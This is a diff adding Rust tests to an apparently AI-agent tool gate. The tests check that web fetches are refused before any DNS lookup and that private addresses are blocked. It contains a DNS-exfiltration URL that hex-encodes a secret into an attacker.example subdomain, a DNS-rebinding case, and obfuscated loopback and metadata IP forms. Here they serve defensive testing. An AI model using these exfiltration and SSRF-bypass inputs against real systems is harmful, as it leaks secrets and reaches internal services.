@@ -19,6 +19,9 @@ use chitin::tools::invoke::{InvokeError, Invoked, invoke};
 use chitin_audit::{AuditLog, Query, Record};
 use serde_json::{Value, json};
 
+#[path = "support/fetch.rs"]
+mod fetch_support;
+
 struct Env {
     _dirs: Vec<tempfile::TempDir>,
     gate: Gate,
@@ -314,7 +317,7 @@ fn an_authorization_for_one_call_cannot_be_reused_for_other_arguments() {
     let norm = serde_json::to_value(&a).unwrap();
     let Verdict::Allowed(auth, _) = e
         .gate
-        .check_tool_call(&e.call, "read_file", &norm, None)
+        .check_tool_call(&e.call, chitin::policy::Tool::ReadFile, &norm, None)
         .unwrap()
     else {
         panic!("expected allow")
@@ -387,5 +390,318 @@ fn an_approved_call_runs_once_and_only_with_exactly_the_approved_arguments() {
     assert!(
         actions.iter().any(|a| a == "approval.redeem"),
         "{actions:?}"
+    );
+}
+
+// ---- web_fetch: no network before the decision -------------------------------------------
+
+/// The resolver seam: records every name the gate asks about and answers `answer`.
+struct RecordingResolver {
+    asked: std::sync::Mutex<Vec<String>>,
+    answer: Vec<std::net::IpAddr>,
+}
+
+impl chitin::net::Resolver for RecordingResolver {
+    fn resolve(&self, host: &str, _port: u16) -> Result<Vec<std::net::IpAddr>, String> {
+        self.asked.lock().unwrap().push(host.to_string());
+        Ok(self.answer.clone())
+    }
+}
+
+/// An env whose gate resolves through a recorder, with `extra` policy text added to the
+/// defaults (the private-address guard included).
+fn env_resolving(answer: &[&str], extra: &str) -> (Env, Arc<RecordingResolver>) {
+    let mut e = env();
+    let pol = e.home.join("policies");
+    std::fs::create_dir(&pol).unwrap();
+    std::fs::write(
+        pol.join("schema.cedarschema"),
+        chitin::policy::builtin::SCHEMA,
+    )
+    .unwrap();
+    for (name, text) in chitin::policy::builtin::DEFAULT_POLICIES {
+        std::fs::write(pol.join(name), text).unwrap();
+    }
+    std::fs::write(pol.join("zz-extra.cedar"), extra).unwrap();
+    let engine = PolicyEngine::load(EngineSpec {
+        policy_dir: Some(pol),
+        entity_files: vec![e.home.join("entities.json")],
+        state_dir: Some(e.home.clone()),
+    })
+    .unwrap();
+    let rec = Arc::new(RecordingResolver {
+        asked: std::sync::Mutex::new(Vec::new()),
+        answer: answer.iter().map(|a| a.parse().unwrap()).collect(),
+    });
+    e.gate = Gate::new(Arc::new(engine), Arc::clone(e.gate.audit()))
+        .with_resolver(Arc::clone(&rec) as Arc<dyn chitin::net::Resolver>);
+    (e, rec)
+}
+
+/// The Cedar context a decision record carries.
+fn ctx_of(r: &Record) -> Value {
+    let p: Value = serde_json::from_str(r.payload.as_deref().unwrap()).unwrap();
+    p["context"].clone()
+}
+
+/// Reloads the policies without `guard.no-private-fetch` (a test can only serve on 127.0.0.1).
+fn drop_private_guard(e: &Env) {
+    let pol = e.home.join("policies");
+    fetch_support::policies_allowing_loopback_fetch(&pol, None);
+    e.gate.engine().reload().unwrap();
+}
+
+fn fetch_decisions(e: &Env) -> Vec<Record> {
+    records(e)
+        .into_iter()
+        .filter(|r| r.action == "web_fetch" && r.kind == "decision")
+        .collect()
+}
+
+#[test]
+fn a_forbidden_web_fetch_never_asks_dns_about_the_host() {
+    let (e, rec) = env_resolving(
+        &["93.184.215.14"],
+        "@id(\"test.no-fetch\")\nforbid (principal, action == Chitin::Action::\"web_fetch\", resource);\n",
+    );
+    // The attack: a secret hex-encoded into the name, so that the lookup itself leaks it.
+    let url = "http://736b2d6c6976652d7365637265742d3432.attacker.example/";
+    let r = run(&e, "web_fetch", json!({"url": url})).unwrap();
+    let Invoked::Denied(d) = r else {
+        panic!("expected a denial, got {r:?}")
+    };
+    assert_eq!(d.policies, vec!["test.no-fetch".to_string()]);
+    assert!(
+        rec.asked.lock().unwrap().is_empty(),
+        "the resolver was asked: {:?}",
+        rec.asked.lock().unwrap()
+    );
+    let recs = fetch_decisions(&e);
+    assert_eq!(recs.len(), 1, "one decision, on the url as written");
+    let ctx = &ctx_of(&recs[0]);
+    assert_eq!(ctx["resolved"], false, "{ctx}");
+    assert_eq!(ctx["ip_literal"], false, "{ctx}");
+    assert_eq!(
+        ctx["host"],
+        "736b2d6c6976652d7365637265742d3432.attacker.example"
+    );
+}
+
+#[test]
+fn a_name_that_resolves_to_a_private_address_is_refused_by_the_second_decision() {
+    let (e, rec) = env_resolving(&["93.184.215.14", "10.0.0.7"], "");
+    let r = run(
+        &e,
+        "web_fetch",
+        json!({"url": "http://rebind.example:8080/x"}),
+    )
+    .unwrap();
+    let Invoked::Denied(d) = r else {
+        panic!("expected a denial, got {r:?}")
+    };
+    assert_eq!(d.policies, vec!["guard.no-private-fetch".to_string()]);
+    assert_eq!(
+        *rec.asked.lock().unwrap(),
+        vec!["rebind.example".to_string()]
+    );
+    let recs = fetch_decisions(&e);
+    assert_eq!(recs.len(), 2, "both decisions are audited");
+    assert_eq!(recs[0].decision, "allow");
+    assert_eq!(ctx_of(&recs[0])["resolved"], false);
+    assert_eq!(recs[1].decision, "deny");
+    let ctx = &ctx_of(&recs[1]);
+    assert_eq!(ctx["resolved"], true, "{ctx}");
+    assert_eq!(ctx["private_address"], true, "{ctx}");
+    assert_eq!(
+        ctx["addresses"],
+        json!(["10.0.0.7", "93.184.215.14"]),
+        "{ctx}"
+    );
+}
+
+#[test]
+fn localhost_resolved_by_the_system_is_a_private_address_in_the_second_decision() {
+    let e = env();
+    let r = run(&e, "web_fetch", json!({"url": "http://localhost:9/"})).unwrap();
+    let Invoked::Denied(d) = r else {
+        panic!("expected a denial, got {r:?}")
+    };
+    assert_eq!(d.policies, vec!["guard.no-private-fetch".to_string()]);
+    let recs = fetch_decisions(&e);
+    assert_eq!(recs.len(), 2, "{recs:?}");
+    assert_eq!(ctx_of(&recs[0])["private_address"], false);
+    let ctx = &ctx_of(&recs[1]);
+    assert_eq!(
+        (ctx["resolved"].clone(), ctx["private_address"].clone()),
+        (json!(true), json!(true))
+    );
+    assert!(ctx["addresses"].to_string().contains("127.0.0.1"), "{ctx}");
+}
+
+#[test]
+fn integer_and_short_ipv4_urls_are_private_literals_refused_before_any_lookup() {
+    let (e, rec) = env_resolving(&["93.184.215.14"], "");
+    for host in [
+        "2130706433",
+        "0x7f000001",
+        "0177.0.0.1",
+        "127.1",
+        "0xa9fea9fe",
+        "[::ffff:7f00:1]",
+    ] {
+        let r = run(&e, "web_fetch", json!({"url": format!("http://{host}/")})).unwrap();
+        let Invoked::Denied(d) = r else {
+            panic!("{host}: expected a denial, got {r:?}")
+        };
+        assert_eq!(
+            d.policies,
+            vec!["guard.no-private-fetch".to_string()],
+            "{host}"
+        );
+    }
+    assert!(rec.asked.lock().unwrap().is_empty());
+    for r in fetch_decisions(&e) {
+        let ctx = &ctx_of(&r);
+        assert_eq!(
+            (ctx["ip_literal"].clone(), ctx["resolved"].clone()),
+            (json!(true), json!(false)),
+            "{ctx}"
+        );
+    }
+}
+
+#[test]
+fn a_fetch_connects_only_to_the_addresses_the_gate_judged() {
+    // The recorder answers 127.0.0.1 for a name no real resolver knows: the fetch reaching
+    // the page proves it used the pinned answer and did not resolve again.
+    let (e, rec) = env_resolving(
+        &["127.0.0.1"],
+        "@id(\"test.pinned-name\")\npermit (principal, action == Chitin::Action::\"web_fetch\", resource)\nwhen { context.host == \"pinned.invalid\" };\n",
+    );
+    drop_private_guard(&e);
+    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = l.local_addr().unwrap().port();
+    let server = std::thread::spawn(move || {
+        use std::io::{BufRead, Write};
+        let (mut s, _) = l.accept().unwrap();
+        let mut r = std::io::BufReader::new(s.try_clone().unwrap());
+        let mut head = String::new();
+        loop {
+            let mut line = String::new();
+            r.read_line(&mut line).unwrap();
+            if line.trim().is_empty() {
+                break;
+            }
+            head.push_str(&line);
+        }
+        s.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\npinned")
+            .unwrap();
+        head
+    });
+    let rt = tokio::runtime::Runtime::new().unwrap();
+    let _guard = rt.enter();
+    let url = format!("http://pinned.invalid:{port}/");
+    let r = run(&e, "web_fetch", json!({"url": url})).unwrap();
+    let Invoked::Ran { result, .. } = r else {
+        panic!("expected a run, got {r:?}")
+    };
+    assert_eq!(
+        result.output.as_ref().unwrap()["body"],
+        "pinned",
+        "{result:?}"
+    );
+    let head = server.join().unwrap();
+    assert!(
+        head.to_ascii_lowercase()
+            .contains(&format!("host: pinned.invalid:{port}")),
+        "{head}"
+    );
+    assert_eq!(
+        *rec.asked.lock().unwrap(),
+        vec!["pinned.invalid".to_string()]
+    );
+}
+
+#[test]
+fn integer_ipv4_network_destinations_are_ip_literals() {
+    let e = env();
+    // 0x0a000001 is 10.0.0.1: an IP literal, and not loopback.
+    let err = run(
+        &e,
+        "exec",
+        json!({"argv": ["true"], "network": ["0x0a000001:80"]}),
+    )
+    .unwrap_err();
+    assert_eq!(
+        err.to_string(),
+        "invalid arguments for `exec`: invalid sandbox request: network destination `0x0a000001:80`: IP-literal destinations must be loopback IPv4 (integer, hex, octal and short forms such as 2130706433 or 127.1 count as IP literals); name the host instead (the name is pinned in the sandbox's /etc/hosts)"
+    );
+    // 2130706433 is 127.0.0.1, judged (and shown) as such.
+    let r = run(
+        &e,
+        "exec",
+        json!({"argv": ["true"], "network": ["2130706433:9"]}),
+    )
+    .unwrap();
+    assert!(matches!(r, Invoked::ApprovalRequired { .. }), "{r:?}");
+}
+
+#[test]
+fn an_approval_binds_the_url_as_written_and_counts_in_both_decisions() {
+    let (e, rec) = env_resolving(&["127.0.0.1"], "");
+    drop_private_guard(&e);
+    let (port, seen) = fetch_support::serve_page("posted");
+    let ap = approvals_for(&e);
+    let rt = tokio::runtime::Runtime::new().unwrap();
+    let _guard = rt.enter();
+    let args = json!({"url": format!("http://forms.invalid:{port}/submit"), "method": "POST", "body": "a=1"});
+    let go = |a: &Value| invoke(&e.gate, &e.sandbox, &e.call, "web_fetch", a, Some(&ap)).unwrap();
+    let Invoked::ApprovalRequired { request_digest, .. } = go(&args) else {
+        panic!("a POST needs approval")
+    };
+    // Waiting for a person: nothing has been looked up yet.
+    assert!(rec.asked.lock().unwrap().is_empty());
+    let pending = ap
+        .request("owner", "s1", "web_fetch", &args, request_digest)
+        .unwrap();
+    ap.resolve(&pending.code, "owner", true).unwrap();
+    let Invoked::Ran { result, .. } = go(&args) else {
+        panic!("expected the approved fetch to run")
+    };
+    assert_eq!(
+        result.output.as_ref().unwrap()["body"],
+        "posted",
+        "{result:?}"
+    );
+    let got = seen.try_recv().unwrap();
+    assert_eq!(
+        (got.line.as_str(), got.body.as_str()),
+        ("POST /submit HTTP/1.1", "a=1")
+    );
+    assert_eq!(
+        *rec.asked.lock().unwrap(),
+        vec!["forms.invalid".to_string()]
+    );
+    let seq: Vec<(String, Value, Value)> = fetch_decisions(&e)
+        .iter()
+        .map(|r| {
+            let c = ctx_of(r);
+            (
+                r.decision.clone(),
+                c["resolved"].clone(),
+                c["approved"].clone(),
+            )
+        })
+        .collect();
+    let step =
+        |d: &str, resolved: bool, approved: bool| (d.to_string(), json!(resolved), json!(approved));
+    assert_eq!(
+        seq,
+        vec![
+            step("approval_required", false, false),
+            step("approval_required", false, false),
+            step("allow", false, true),
+            step("allow", true, true),
+        ]
     );
 }
